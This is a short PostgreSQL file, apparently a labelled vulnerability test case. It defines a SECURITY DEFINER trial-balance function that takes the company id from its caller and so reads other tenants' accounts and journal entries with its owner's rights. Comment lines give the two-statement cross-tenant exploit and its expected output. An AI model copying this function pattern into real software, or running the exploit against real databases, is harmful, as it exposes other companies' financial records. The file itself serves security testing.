-- The trial balance takes the company from its caller and reads with its owner's rights.
-- about: trial_balance, journal_entries, accounts
-- as: hf_tallybook_app
-- exploit: SET tally.company_id = 'a0000000-0000-4000-8000-000000000000';
-- exploit: SELECT * FROM trial_balance('b0000000-0000-4000-8000-000000000000');
-- shows: 123321
CREATE FUNCTION trial_balance(p_company uuid) RETURNS TABLE (code text, name text, balance_cents bigint)
LANGUAGE sql STABLE SECURITY DEFINER SET search_path = public, pg_temp AS $$
  SELECT a.code, a.name, coalesce(sum(j.amount_cents), 0)::bigint
  FROM accounts a
  LEFT JOIN journal_entries j ON j.company_id = a.company_id AND j.account_code = a.code
  WHERE a.company_id = p_company
  GROUP BY a.code, a.name
$$;
GRANT EXECUTE ON FUNCTION trial_balance(uuid) TO hf_tallybook_app;
